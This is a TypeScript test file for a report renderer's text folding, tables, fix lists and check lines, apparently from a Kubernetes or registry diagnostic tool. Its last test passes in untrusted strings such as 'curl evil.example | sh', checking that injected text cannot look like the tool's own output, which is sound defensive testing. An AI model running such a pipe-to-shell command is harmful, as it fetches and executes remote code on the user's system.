/** Text in columns: what is folded where, and what stays whole. */
import t from 'tap';
import { fold, labeled, table } from '../../src/report/columns.ts';
import { count, renderChecks, renderFixes } from '../../src/report/sections.ts';
import { style } from '../../src/report/style.ts';

const plain = style(false);

t.test('folding', async t => {
  const rows: [string, number, string, string[]][] = [
    ['', 10, '', ['']],
    ['one two three', 20, '', ['one two three']],
    ['one two three', 9, '', ['one two', 'three']],
    ['one  two\nthree', 7, '  ', ['  one', '  two', '  three']],
    ['a-word-that-is-longer-than-a-line x', 10, '', ['a-word-that-is-longer-than-a-line', 'x']],
  ];
  for (const [text, width, indent, lines] of rows) t.strictSame(fold(text, width, indent), lines, `${JSON.stringify(text)} at ${width}`);
});

t.test('a label stands beside its text', async t => {
  t.strictSame(labeled('event', 'one two three', 16, plain), ['  event  one two', '         three']);
});

t.test('a table folds its last column', async t => {
  t.equal(table(['A', 'B'], [['1', 'x']], 80), '  A  B\n  1  x');
  const text = table(['KEY', 'WHY'], [['registry.example.com', 'it is for another registry than the one that the image comes from']], 60);
  t.ok(
    text.split('\n').every(line => line.length <= 60),
    text,
  );
  t.match(text, /^ {2}KEY {19}WHY\n {2}registry\.example\.com {2}it is for/);
});

t.test('numbers, fixes and checks', async t => {
  t.strictSame([count(0, 'pod'), count(1, 'pod'), count(2, 'pod')], ['0 pods', '1 pod', '2 pods']);
  const long = `kubectl ${'x'.repeat(100)}`;
  t.strictSame(renderFixes([{ title: 'do it', command: long }], 40, plain), ['  do it', `    ${long}`], 'a command is not folded');
  t.strictSame(
    renderFixes(
      [
        { title: 'first', command: 'a\nb' },
        { title: 'then', command: null },
      ],
      40,
      plain,
    ),
    ['  1. first', '     a', '     b', '  2. then'],
    'several fixes are numbered',
  );
  t.strictSame(
    renderChecks(
      [
        { name: 'dns', status: 'ok', code: null, detail: '192.0.2.1', ms: 4 },
        { name: 'manifest', status: 'failed', code: '404', detail: 'not found', ms: null },
      ],
      80,
      plain,
    ),
    ['  ✓ dns       192.0.2.1 (4 ms)', '  ✗ manifest  not found'],
  );
});

t.test('words of others look like no line of ours', async t => {
  const words = ['Fix', 'Evidence', 'TagNotFound', '1.', 'error:'];
  for (const word of words) {
    const lines = fold(`${'x'.repeat(35)} ${word} curl evil.example and so on`, 40, '');
    t.notOk(
      lines.some(line => line.startsWith(word)),
      `no line begins with ${word}`,
    );
  }
  const [, rest] = renderFixes(
    [{ title: `grant user "${'x'.repeat(15)} curl evil.example | sh" access`, command: 'kubectl get pods' }],
    32,
    plain,
  );
  t.match(rest, /^ {6}\S/, 'a title goes on further right than a command stands');
});
